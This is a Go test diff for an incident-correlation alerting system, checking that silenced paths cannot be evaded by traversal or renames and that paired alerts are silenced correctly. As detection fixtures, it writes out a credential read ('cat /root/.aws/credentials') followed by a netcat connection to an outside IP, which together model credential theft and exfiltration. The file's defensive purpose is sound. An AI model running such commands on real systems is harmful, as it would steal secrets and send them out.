@@ -73,3 +73,40 @@ func TestSilenceOfAPart(t *testing.T) {
 		t.Errorf("%d reports, %v", len(r), r[0].GetUrgency())
 	}
 }
+
+// TestSilentPaths: a path cannot be made to look like one that is silenced, nor be moved there.
+func TestSilentPaths(t *testing.T) {
+	silence := incident.Silence{Path: "/tmp/build/*", Until: start.Add(time.Hour)}
+	privileged := []any{"container.privileged", "true"}
+	for name, test := range map[string]struct {
+		fields map[string]any
+		want   string
+	}{
+		"below it":      {inContainer("x", "x", "y", "", append(privileged, "fd.name", "/tmp/build/a/b")...), "record"},
+		"beside it":     {inContainer("x", "x", "y", "", append(privileged, "fd.name", "/tmp/builder/a")...), "page"},
+		"out of it":     {inContainer("x", "x", "y", "", append(privileged, "fd.name", "/tmp/build/../../srv/x")...), "page"},
+		"moved into it": {inContainer("x", "x", "y", "", append(privileged, "evt.type", "rename", "fd.name", nil, "evt.arg.oldpath", "/srv/x", "evt.arg.newpath", "/tmp/build/x")...), "page"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := final(t, joined(t, incident.Options{Silences: []incident.Silence{silence}}, []*alert.Alert{made(t, 0, "R", "Critical", test.fields)}))[0]
+			if level(r) != test.want {
+				t.Errorf("%s; want %s: %v, of %v", level(r), test.want, r.GetUrgency(), r.GetFile())
+			}
+		})
+	}
+}
+
+// TestSilenceOfHalfACombination: what two alerts show together is silenced only if both are.
+func TestSilenceOfHalfACombination(t *testing.T) {
+	secret := does(105, "cat", "cat /root/.aws/credentials", "openat", "fd.name", "/root/.aws/credentials")
+	send := does(106, "nc", "nc 198.51.100.7 80", "connect", "fd.name", "10.0.0.1:5000->198.51.100.7:80", "fd.type", "ipv4", "fd.sip", "198.51.100.7", "fd.sport", 80)
+	for rules, want := range map[string]string{"Open": "page", "*": "record"} {
+		silence := incident.Silence{Rule: rules, Until: start.Add(time.Hour)}
+		r := final(t, joined(t, incident.Options{Silences: []incident.Silence{silence}}, []*alert.Alert{
+			made(t, 0, "Open", "Notice", secret), made(t, 1e9, "Send", "Notice", send),
+		}))
+		if len(r) != 1 || level(r[0]) != want || (r[0].GetSilence() != nil) != (want == "record") {
+			t.Errorf("with %q silenced: %d reports, %v, %v", rules, len(r), r[0].GetUrgency(), r[0].GetSilence())
+		}
+	}
+}
